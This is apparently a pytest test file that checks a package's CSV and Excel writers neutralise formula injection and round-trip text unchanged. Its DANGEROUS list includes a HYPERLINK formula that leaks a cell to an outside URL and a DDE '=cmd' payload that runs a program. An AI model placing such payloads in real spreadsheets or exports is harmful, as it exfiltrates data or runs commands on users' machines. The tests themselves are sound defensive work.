"""CSV files and workbooks read back as written, and no spreadsheet runs any of their text."""

import csv
import io
import re
import zipfile

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

import valuechain as vc
from tests.tables.conftest import Folder, Zipped
from valuechain.analysis.rows.matrix import matrix_rows, ownership_rows
from valuechain.model.table import Sheet, Table
from valuechain.tables.characters import fold
from valuechain.tables.escaping import escape, unescape
from valuechain.tables.reading.source import read_upload
from valuechain.tables.text import RawTable, decode, neutralise, parse, restore
from valuechain.tables.writing.sheets import in_words, list_sheets
from valuechain.tables.writing.workbook import _CUT, write_workbook
from valuechain.tables.writing.write import write_csv

TRIGGERS = ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
DANGEROUS = [f"{trigger}1+1" for trigger in TRIGGERS] + [
    '=HYPERLINK("https://example.org/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "-",
    "@",
    "=",
    "\r_x0041_",
    '"=1',
]
WITHIN = {
    "x;=1;y": "x;'=1;y",
    "x;;@": "x;;'@",
    "x\t-1": "x\t'-1",
    "x\n+1": "x\n'+1",
    "x\r\n=1": "x\r\n'=1",
    "x\r=1": "x\r'=1",
    'x;"=1;y': "x;'\"=1;y",
    "x;'=1": "x;''=1",
    "x;\uff1d1": "x;'\uff1d1",
    "\t=1": "'\t'=1",
    "\r\n=1": "'\r\n'=1",
    "=1;=2": "'=1;'=2",
}
"""Text with a formula for a spreadsheet that splits it, with how it is written."""
APOSTROPHES = [f"{apostrophes}{text}" for apostrophes in ("'", "''", "'''") for text in ("=1", "@x", "\tx", "-")]
HARMLESS = [
    "",
    " ",
    "'",
    "''",
    "'tis",
    "it's",
    "a=b",
    " =1",
    '"',
    '""',
    'say "no"',
    ",",
    ";",
    "a;b",
    "a;b=c",
    "a; =b",
    "f(',','-')",
    "a\n\nb",
    "|",
    "\\",
    "a\nb",
    "a\r\nb",
    "a\rb",
    "a\tb",
    "\x0b",
    "\x1b[31mred",
    "\x01",
    "\x1f",
    "\x7f",
    "\x85",
    "\u2028",
    "\ufeff",
    "\ufffe",
    "\uffff",
    "\u200b",
    "\u202e\u05d0\u05d1\u05d2",
    "\u0627\u0644\u0639\u0631\u0628\u064a\u0629",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "数据",
    " spaces around ",
    "_x0041_",
    "_x005F_",
    "_x005F_x0041_",
    "_x005f_x005F_x0041_",
    "__x000D__",
    "_x000D_\r",
    "_\r",
    "_xD800_",
    "_x0000_",
    "_x41_",
    "007",
    "1e5",
    "TRUE",
    "2025-01-31",
    "#N/A",
    "<b>&amp;</b>",
    "]]>",
]
TEXTS = [*DANGEROUS, *WITHIN, *APOSTROPHES, *HARMLESS]


def _read_csv(written: str) -> RawTable:
    return parse("t.csv", decode("t.csv", written.encode()), frozenset())


def _write_workbook(table: Table, chain: vc.ValueChain) -> bytes:
    return write_workbook(list_sheets(Sheet(table), chain, chain.frameworks), chain.roles)


def _read_workbook(written: bytes, table: Table) -> RawTable:
    name = in_words(table.name).casefold()
    source = read_upload("own.xlsx", written, {name: frozenset()})
    return source.tables[name]


def _table_of(text: str) -> Table:
    return Table("texts", ("id", f"head {text}", "last"), (("first", text, "x"), ("second", "x", text)))


@pytest.mark.parametrize("text", TEXTS, ids=ascii)
def test_neutralised_and_restored(text: str) -> None:
    """Neutralising any text and restoring it gives the original text."""
    assert restore(neutralise(text)) == text


@pytest.mark.parametrize("text", [*DANGEROUS, *APOSTROPHES], ids=ascii)
def test_what_is_neutralised(text: str) -> None:
    """Text that a spreadsheet would run, or that looks neutralised, gets one apostrophe in front."""
    assert neutralise(text) == f"'{text}"


@pytest.mark.parametrize(("text", "written"), WITHIN.items(), ids=ascii)
def test_what_is_neutralised_within(text: str, written: str) -> None:
    """So does what would begin a cell or a line if a spreadsheet split the text."""
    assert neutralise(text) == written


@pytest.mark.parametrize("separator", [",", ";", "\t"], ids=["comma", "semicolon", "tab"])
@settings(max_examples=50, deadline=None)
@given(texts=st.lists(st.text("=-;,\t\r\n\"'x", max_size=8), min_size=3, max_size=3))
@example(["x;=1;y", 'x;"=1;y', 'x,"\n=1\t=1"\t"=1'])
def test_no_cell_is_a_formula_wherever_it_is_split(separator: str, texts: list[str]) -> None:
    """Whichever separator a spreadsheet takes, no cell of a CSV file begins with a formula; the texts read back.

    The csv module reads quotes as spreadsheets do: only those at the beginning of a cell count.
    """
    table = Table("texts", ("id", *texts), (("a", *texts), ("b", *reversed(texts))))
    written = write_csv(table)
    cells = [cell for row in csv.reader(io.StringIO(written, newline=""), delimiter=separator) for cell in row]
    assert [cell for cell in cells if cell.lstrip("\t\r\n").startswith(("=", "-"))] == []
    read = [tuple(map(restore, row)) for row in csv.reader(io.StringIO(written, newline=""))]
    assert read == [table.columns, *table.rows]


@pytest.mark.parametrize("text", HARMLESS, ids=ascii)
def test_what_is_left_alone(text: str) -> None:
    """Harmless text is written unchanged."""
    assert neutralise(text) == text


@pytest.mark.parametrize("text", TEXTS, ids=ascii)
def test_csv(text: str) -> None:
    """Any text in a cell of a CSV file reads back unchanged, except for invisible characters that mean nothing."""
    table = _table_of(text)
    read = _read_csv(write_csv(table))
    assert read.rows == tuple(tuple(map(fold, row)) for row in table.rows)
    assert read.header == ("id", fold(f"head {text}").strip(), "last")


@pytest.mark.parametrize("text", [*DANGEROUS, *APOSTROPHES], ids=ascii)
def test_csv_as_a_spreadsheet_sees_it(text: str) -> None:
    """In the CSV file itself, a dangerous cell or heading begins with an apostrophe."""
    written = write_csv(Table("texts", ("id", text), (("first", text),)))
    cells = list(csv.reader(io.StringIO(written, newline="")))
    assert cells == [["id", f"'{text}"], ["first", f"'{text}"]]


@pytest.mark.parametrize("text", DANGEROUS, ids=ascii)
def test_csv_header(text: str) -> None:
    """A dangerous heading reads back unchanged, except for surrounding spaces and line breaks."""
    read = _read_csv(write_csv(Table("texts", ("id", text), (("first", "x"),))))
    assert read.header == (("id", text.strip()) if text.strip() else ("id",))


@pytest.mark.parametrize("text", TEXTS, ids=ascii)
def test_escaped_and_unescaped(text: str) -> None:
    """Escaping any text for a workbook and unescaping it gives the original text."""
    assert unescape(escape(text)) == text


@pytest.mark.parametrize(
    ("escaped", "text"),
    [
        ("_x000D_\n", "\r\n"),
        ("_x0041_", "A"),
        ("_x00e9_", "\u00e9"),
        ("_x005F_x0041_", "_x0041_"),
        ("_x0000_", "_x0000_"),
        ("_xD83D__xDE00_", "_xD83D__xDE00_"),
        ("_x41_", "_x41_"),
    ],
)
def test_what_excel_escapes(escaped: str, text: str) -> None:
    """Excel's escapes are unescaped, unless the result would not be text."""
    assert unescape(escaped) == text


def test_workbook(chain: vc.ValueChain) -> None:
    """Any text in a cell or heading of a workbook reads back, except for invisible characters that mean nothing."""
    rows = tuple((f"row {number}", text, "x", text) for number, text in enumerate(TEXTS))
    table = Table("texts", ("id", "=head", "@other", "last"), rows)
    read = _read_workbook(_write_workbook(table, chain), table)
    assert read.header == table.columns
    assert list(read.rows) == [tuple(map(fold, row)) for row in rows]


def test_workbook_holds_no_formula(chain: vc.ValueChain) -> None:
    """No cell of any sheet is a formula, and text that looks like one is marked as text."""
    table = Table("texts", ("=id",), tuple((text,) for text in (*DANGEROUS, *APOSTROPHES)))
    workbook = load_workbook(io.BytesIO(_write_workbook(table, chain)))
    types = {cell.data_type for sheet in workbook for row in sheet.iter_rows() for cell in row}
    assert types <= {"s", "n", "b", "inlineStr"}
    assert all(cell.quotePrefix for (cell,) in workbook["Texts"].iter_rows())


def test_cells_with_roles_have_the_look_of_the_strongest(chain: vc.ValueChain) -> None:
    """A cell with roles is filled with a tint of the strongest role's colour; cells with other text have no fill."""
    roles = "primary", "secondary", "mentioned", "secondary;primary", "other"
    table = Table("roles", ("role",), tuple((role,) for role in roles))
    _, *cells = load_workbook(io.BytesIO(_write_workbook(table, chain)))["Roles"]["A"]
    lead, owner, mention, both, other = (cell.fill.fgColor.rgb for cell in cells)
    assert lead == both
    assert len({lead, owner, mention, other}) == len(roles) - 1
    assert other == "00000000"


@pytest.mark.parametrize("value", [0, 7, -7, True, False])
def test_numbers_and_truth(chain: vc.ValueChain, value: int) -> None:
    """A whole number stays a number, and a negative one is not neutralised."""
    table = Table("numbers", ("id", "value"), (("a", value),))
    expected = ("yes" if value else "no") if isinstance(value, bool) else str(value)
    assert _read_workbook(_write_workbook(table, chain), table).rows == (("a", expected),)
    assert _read_csv(write_csv(table)).rows == (("a", str(value)),)


@pytest.mark.parametrize("length", [32_767, 32_768, 100_000])
@pytest.mark.parametrize("letter", ["x", "\r"], ids=["plain", "escaped"])
def test_text_longer_than_a_cell_of_excel(chain: vc.ValueChain, length: int, letter: str) -> None:
    """Text that does not fit into an Excel cell is cut, with a note."""
    table = Table("texts", ("id", "text"), (("a", letter * length),))
    ((_, read),) = _read_workbook(_write_workbook(table, chain), table).rows
    if letter == "x" and length == 32_767:
        assert read == letter * length
    else:
        assert read.endswith(_CUT)
        assert set(read.removesuffix(_CUT)) == {letter}
        assert len(escape(read)) <= 32_767


SEEN = [text for text in TEXTS if fold(text).strip()]
NAMES = ["=SUM(A1)", "+one", "-one", "@one", "'=one", "it's", 'a "b"', "\U0001f600", "\u05d0\u05d1", "_x0041_"]


@pytest.fixture
def strange(folder: Folder) -> vc.ValueChain:
    """A chain whose actors and mitigations have names that a spreadsheet would run."""
    actors = [(f"a{number}", name) for number, name in enumerate(NAMES)]
    mitigations = [
        (f"m{number}", text, text, NAMES[number % len(NAMES)], "a1;" + NAMES[2]) for number, text in enumerate(SEEN)
    ]
    return vc.read_chain(
        folder(
            actors=write_csv(Table("actors", ("id", "name"), tuple(actors))),
            mitigations=write_csv(
                Table("mitigations", ("id", "name", "summary", "primary", "secondary"), tuple(mitigations))
            ),
        )
    )


def test_a_chain_of_strange_names(strange: vc.ValueChain) -> None:
    """Names that a spreadsheet would run are read as intended, and can be used as owners."""
    assert [actor.name for actor in strange.actors] == NAMES
    assert [mitigation.name for mitigation in strange.mitigations] == [fold(text) for text in SEEN]
    assert [mitigation.summary for mitigation in strange.mitigations] == [fold(text) for text in SEEN]
    assert {(each.actor, each.role) for each in strange.ownerships if each.mitigation == "m0"} == {
        ("a0", "primary"),
        ("a1", "secondary"),
        ("a2", "secondary"),
    }


def test_a_chain_written_and_read_again(strange: vc.ValueChain, zipped: Zipped) -> None:
    """The actors and mitigations of a chain are the same after being written as CSV and read again."""
    actors = tuple((actor.id, actor.name) for actor in strange.actors)
    owned = {
        role: {
            mitigation.id: ";".join(
                each.actor for each in strange.ownerships if (each.mitigation, each.role) == (mitigation.id, role)
            )
            for mitigation in strange.mitigations
        }
        for role in ("primary", "secondary")
    }
    mitigations = tuple(
        (each.id, each.name, each.summary, owned["primary"][each.id], owned["secondary"][each.id])
        for each in strange.mitigations
    )
    tables = (
        Table("actors", ("id", "name"), actors),
        Table("mitigations", ("id", "name", "summary", "primary", "secondary"), mitigations),
    )
    again = vc.read_chain(zipped({f"{table.name}.csv": write_csv(table) for table in tables}))
    assert (again.actors, again.mitigations) == (strange.actors, strange.mitigations)
    assert set(again.ownerships) == set(strange.ownerships)
    for table in tables:
        read = _read_workbook(_write_workbook(table, strange), table)
        assert (read.header, read.rows) == (table.columns, table.rows)


def test_answers_written_and_read_again(strange: vc.ValueChain) -> None:
    """The matrix and the ownerships, written as CSV and as a workbook, read back unchanged."""
    allocation = vc.build_allocation(strange)
    for table in (matrix_rows(allocation), ownership_rows(allocation)):
        for read in (_read_csv(write_csv(table)), _read_workbook(_write_workbook(table, strange), table)):
            assert (read.header, read.rows) == (table.columns, table.rows)


def test_the_shipped_answers_written_and_read_again(chain: vc.ValueChain) -> None:
    """The ownerships of the shipped frameworks, written as CSV and as a workbook, read back unchanged."""
    table = ownership_rows(vc.build_allocation(chain, vc.Context("advanced", "open")))
    assert len(table.rows) > 100
    for read in (_read_csv(write_csv(table)), _read_workbook(_write_workbook(table, chain), table)):
        assert (read.header, read.rows) == (table.columns, table.rows)


def test_a_workbook_holds_no_time(chain: vc.ValueChain) -> None:
    """A workbook contains no timestamp, so that equal answers give equal files."""
    content = _write_workbook(Table("small", ("a",), (("x",),)), chain)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert {member.date_time for member in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        stamps = re.findall(rb"<dcterms:[^>]*>([^<]*)<", archive.read("docProps/core.xml"))
    assert set(stamps) == {b"2000-01-01T00:00:00Z"}
